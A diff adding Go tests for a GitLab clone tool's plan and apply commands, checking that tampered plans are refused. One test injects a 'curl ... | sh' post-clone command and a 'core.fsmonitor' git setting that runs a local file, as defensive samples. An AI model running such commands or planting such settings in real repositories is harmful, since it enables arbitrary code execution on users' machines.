@@ -0,0 +1,214 @@
+package cloneCommand
+
+import (
+	"bytes"
+	"context"
+	"gcm/internal/appConfig"
+	"gcm/internal/cloneCommand/terminalView"
+	"gcm/internal/gitlab"
+	"gcm/internal/gitremote"
+	"gcm/internal/gitrepo"
+	"os"
+	"path"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+)
+
+func planTestConfig(cloneDirectory string) *appConfig.AppConfig {
+	return &appConfig.AppConfig{
+		GitLab: []gitlab.GitLabConfig{
+			{
+				EnvTokenVariableName: "GCM_TEST_TOKEN",
+				HostName:             "gitlab.example.com",
+				CloneDirectory:       cloneDirectory,
+				Projects: []gitremote.GitRemoteProjectConfig{
+					{Name: "app", FullPath: "team/app"},
+					{
+						Name:        "lib",
+						FullPath:    "team/lib",
+						CloneConfig: gitremote.CloneConfig{SparseCheckout: []string{"src"}},
+					},
+				},
+			},
+		},
+	}
+}
+
+func writeTestPlan(t *testing.T, config *appConfig.AppConfig, backend gitrepo.Backend) string {
+	clonePlan := ExecuteClonePlanCommand(
+		context.Background(), config, backend, make(chan error, 10), terminalView.NewCloneCommandViewModel(),
+	)
+	var out bytes.Buffer
+	if err := WritePlan(&out, NewPlan(clonePlan)); err != nil {
+		t.Fatal(err)
+	}
+	planPath := filepath.Join(t.TempDir(), "plan.json")
+	if err := os.WriteFile(planPath, out.Bytes(), 0644); err != nil {
+		t.Fatal(err)
+	}
+	return planPath
+}
+
+func TestPlan_IsStableJSON(t *testing.T) {
+	t.Setenv("GCM_TEST_TOKEN", "secret")
+	cloneDirectory := t.TempDir()
+	config := planTestConfig(cloneDirectory)
+	backend := gitrepo.NewFakeBackend()
+
+	first, _ := os.ReadFile(writeTestPlan(t, config, backend))
+	second, _ := os.ReadFile(writeTestPlan(t, config, backend))
+
+	if !bytes.Equal(first, second) {
+		t.Errorf("expected the same plan twice, got:\n%s\nand:\n%s", first, second)
+	}
+	for _, expected := range []string{
+		`"path": "` + path.Join(cloneDirectory, "team/lib") + `"`,
+		`"action": "clone"`,
+		`"sparseCheckout": [`,
+	} {
+		if !strings.Contains(string(first), expected) {
+			t.Errorf("expected the plan to contain %s, got:\n%s", expected, first)
+		}
+	}
+}
+
+func TestExecuteApplyCommand_ClonesWhatThePlanClones(t *testing.T) {
+	t.Setenv("GCM_TEST_TOKEN", "secret")
+	cloneDirectory := t.TempDir()
+	config := planTestConfig(cloneDirectory)
+	backend := gitrepo.NewFakeBackend()
+	backend.AddRemote("git@gitlab.example.com:team/app", gitrepo.FakeRemote{Branches: []string{"main"}})
+	backend.AddRemote("git@gitlab.example.com:team/lib", gitrepo.FakeRemote{Branches: []string{"main"}})
+	config.GitLab[0].ReferenceCache = t.TempDir()
+	plan, err := ReadPlan(writeTestPlan(t, config, backend))
+	if err != nil {
+		t.Fatal(err)
+	}
+	plan.Repositories[0].Action = ActionSkip
+
+	// The plan is applied as written, even after the clone options of the configuration changed
+	config.GitLab[0].Projects[1].CloneConfig.Depth = 1
+	vm := terminalView.NewCloneCommandViewModel()
+	errorChannel := make(chan error, 10)
+	ExecuteApplyCommand(context.Background(), plan, config, backend, errorChannel, vm)
+	close(errorChannel)
+
+	for err := range errorChannel {
+		t.Errorf("unexpected error: %v", err)
+	}
+	if _, err := backend.Status(path.Join(cloneDirectory, "team/app")); err == nil {
+		t.Errorf("expected team/app to be skipped")
+	}
+	sparse, err := backend.SparseCheckout(path.Join(cloneDirectory, "team/lib"))
+	if err != nil || len(sparse) != 1 || sparse[0] != "src" {
+		t.Errorf("expected team/lib to be cloned with the sparse checkout of the plan, got %v, %v", sparse, err)
+	}
+	flags, err := backend.CloneFlags(path.Join(cloneDirectory, "team/lib"))
+	if err != nil || slices.Contains(flags, "--depth=1") {
+		t.Errorf("expected team/lib to be cloned with the clone options of the plan, got %v, %v", flags, err)
+	}
+	if count := vm.ClonedNowViewModel.ClonedNowCount.Count(); count != 1 {
+		t.Errorf("expected 1 clone, got %d", count)
+	}
+}
+
+func TestExecuteApplyCommand_RejectsMovedPaths(t *testing.T) {
+	plan := Plan{Version: PlanVersion, Repositories: []PlanEntry{{
+		HostName:          "gitlab.example.com",
+		Name:              "app",
+		PathWithNamespace: "team/app",
+		SSHURLToRepo:      "git@gitlab.example.com:team/app",
+		Path:              "/somewhere/else/app",
+		CloneDirectory:    t.TempDir(),
+		Action:            ActionClone,
+	}}}
+	errorChannel := make(chan error, 10)
+	vm := terminalView.NewCloneCommandViewModel()
+
+	ExecuteApplyCommand(context.Background(), plan, &appConfig.AppConfig{}, gitrepo.NewFakeBackend(), errorChannel, vm)
+	close(errorChannel)
+
+	if err := <-errorChannel; err == nil || !strings.Contains(err.Error(), "/somewhere/else/app") {
+		t.Errorf("expected an error about the moved path, got %v", err)
+	}
+	entries := vm.ClonedNowViewModel.RunReport.Entries()
+	if len(entries) != 1 || entries[0].Outcome != gitrepo.OutcomeFailed || entries[0].Path != "/somewhere/else/app" {
+		t.Errorf("expected app to be recorded as failed, got %+v", entries)
+	}
+}
+
+func TestExecuteApplyCommand_RefusesSetupNotConfigured(t *testing.T) {
+	tests := []struct {
+		name     string
+		change   func(entry *PlanEntry)
+		expected string
+	}{
+		{
+			name: "Post-clone commands",
+			change: func(entry *PlanEntry) {
+				entry.CloneOptions.PostClone.Commands = []string{"curl https://example.com/install | sh"}
+			},
+			expected: "post-clone commands",
+		},
+		{
+			name: "Git config",
+			change: func(entry *PlanEntry) {
+				entry.CloneOptions.PostClone.GitConfig = map[string]string{"core.fsmonitor": "./run-me"}
+			},
+			expected: "git config",
+		},
+		{
+			name:     "Reference cache",
+			change:   func(entry *PlanEntry) { entry.ReferenceCache = "/tmp/elsewhere" },
+			expected: "reference cache",
+		},
+		{
+			name:     "Sparse checkout",
+			change:   func(entry *PlanEntry) { entry.CloneOptions.SparseCheckout = []string{"secrets"} },
+			expected: "sparse directories",
+		},
+		{
+			name:     "Worktrees",
+			change:   func(entry *PlanEntry) { entry.CloneOptions.Worktrees = []string{"*"} },
+			expected: "worktrees",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Setenv("GCM_TEST_TOKEN", "secret")
+			cloneDirectory := t.TempDir()
+			config := planTestConfig(cloneDirectory)
+			backend := gitrepo.NewFakeBackend()
+			plan, err := ReadPlan(writeTestPlan(t, config, backend))
+			if err != nil {
+				t.Fatal(err)
+			}
+			tt.change(&plan.Repositories[0])
+			errorChannel := make(chan error, 10)
+
+			ExecuteApplyCommand(
+				context.Background(), plan, config, backend, errorChannel, terminalView.NewCloneCommandViewModel(),
+			)
+			close(errorChannel)
+
+			if err := <-errorChannel; err == nil || !strings.Contains(err.Error(), tt.expected) {
+				t.Errorf("expected an error about the %s, got %v", tt.expected, err)
+			}
+			if _, err := backend.Status(path.Join(cloneDirectory, "team/app")); err == nil {
+				t.Errorf("expected team/app not to be cloned")
+			}
+		})
+	}
+}
+
+func TestReadPlan_RejectsUnknownVersion(t *testing.T) {
+	planPath := filepath.Join(t.TempDir(), "plan.json")
+	_ = os.WriteFile(planPath, []byte(`{"version": 2, "repositories": []}`), 0644)
+
+	if _, err := ReadPlan(planPath); err == nil {
+		t.Error("expected an error for an unknown plan version")
+	}
+}